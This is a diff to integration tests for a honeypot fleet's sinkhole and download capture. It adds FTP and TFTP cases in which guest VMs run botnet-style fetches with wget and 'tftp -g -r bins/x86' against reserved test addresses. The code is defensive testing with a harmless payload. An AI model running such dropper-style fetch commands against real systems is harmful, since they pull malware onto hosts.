@@ -28,6 +28,7 @@ PAYLOAD = b"#!/bin/sh\necho 'a bot was here'\n" * 64
 HOST = "files.example.test"
 PORT = 8080
 URL = f"http://{HOST}:{PORT}/bins/x.sh"
+FTP_URL = f"ftp://{HOST}/bins/x.sh"
 FAR = "192.0.2.10"  # TEST-NET-1: nothing real, and nothing leaves the namespace anyway
 
 
@@ -40,7 +41,7 @@ class Internet:
     async def handle(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
         head = await reader.readuntil(b"\r\n\r\n")
         self.requests.append(head)
-        if head.startswith(f"GET {URL} ".encode()):
+        if head.startswith((f"GET {URL} ".encode(), f"GET {FTP_URL} ".encode())):
             writer.write(b"HTTP/1.0 200 OK\r\nContent-Length: %d\r\n\r\n" % len(PAYLOAD) + PAYLOAD)
         else:
             writer.write(b"HTTP/1.0 404 Not Found\r\n\r\n")
@@ -82,6 +83,7 @@ async def test_sinkhole_reports_lookups_and_the_url_and_gives_no_file(
         # Literal addresses off the pool network: the guests' default route is the node.
         literal = await run(conn, f"wget -O - http://{FAR}:81/lit")
         udp = await run(conn, f"bash -c 'echo hi > /dev/udp/{FAR}/9999'")
+        tftp = await run(conn, f"timeout 5 tftp -g -r bins/x86 -l /tmp/x86 {FAR}")
     await vm_fleet.sensor().release(lease.id)
     assert f"Address: {GATEWAY}" in str(lookup.stdout), lookup
     assert "rc=0" not in str(wget.stdout), wget
@@ -98,11 +100,13 @@ async def test_sinkhole_reports_lookups_and_the_url_and_gives_no_file(
     assert not stored(vm_fleet, "cowrie.session.file_download", lease.id)
     assert "404" in str(literal.stderr), literal
     assert udp.exit_status == 0, udp  # sent; the filter drops it
-    await until(lambda: len(stored(vm_fleet, "honeyfleet.egress.connect", lease.id)) == 3, 30)
+    assert tftp.exit_status != 0, tftp
+    await until(lambda: len(stored(vm_fleet, "honeyfleet.egress.connect", lease.id)) == 4, 30)
     by_port = {e["dst_port"]: e for e in stored(vm_fleet, "honeyfleet.egress.connect", lease.id)}
     assert (by_port[81]["dst_ip"], by_port[81]["url"]) == (FAR, f"http://{FAR}:81/lit")
     assert (by_port[9999]["dst_ip"], by_port[9999]["transport"]) == (FAR, "udp")
     assert by_port[9999]["kind"] == "dropped"
+    assert (by_port[69]["url"], by_port[69]["method"]) == (f"tftp://{FAR}/bins/x86", "read")
 
 
 async def test_fetch_gives_the_guest_the_file_and_the_store_its_sha256(
@@ -113,15 +117,19 @@ async def test_fetch_gives_the_guest_the_file_and_the_store_its_sha256(
     lease = await vm_fleet.lease("203.0.113.61")
     async with vm_fleet.shell(lease.id) as conn:
         wget = await run(conn, f"wget -O /tmp/x.sh {URL} && sha256sum /tmp/x.sh")
+        ftp = await run(conn, f"wget -O /tmp/f.sh {FTP_URL} && sha256sum /tmp/f.sh")
     await vm_fleet.sensor().release(lease.id)
     shasum = hashlib.sha256(PAYLOAD).hexdigest()
     assert wget.exit_status == 0, wget
     assert str(wget.stdout).split()[0] == shasum
     assert web.requests and web.requests[0].startswith(f"GET {URL} HTTP/1.0".encode())
+    assert ftp.exit_status == 0, ftp
+    assert str(ftp.stdout).split()[0] == shasum
+    assert web.requests[1].startswith(f"GET {FTP_URL} HTTP/1.0".encode())
 
-    await until(lambda: bool(stored(vm_fleet, "cowrie.session.file_download", lease.id)), 30)
-    (download,) = stored(vm_fleet, "cowrie.session.file_download", lease.id)
-    assert (download["url"], download["shasum"]) == (URL, shasum)
+    await until(lambda: len(stored(vm_fleet, "cowrie.session.file_download", lease.id)) == 2, 30)
+    downloads = stored(vm_fleet, "cowrie.session.file_download", lease.id)
+    assert {(d["url"], d["shasum"]) for d in downloads} == {(URL, shasum), (FTP_URL, shasum)}
     assert (vm_fleet.state_dir / "downloads" / shasum).read_bytes() == PAYLOAD
     # And the file itself reaches the controller's artefact store.
     assert vm_fleet.controller is not None
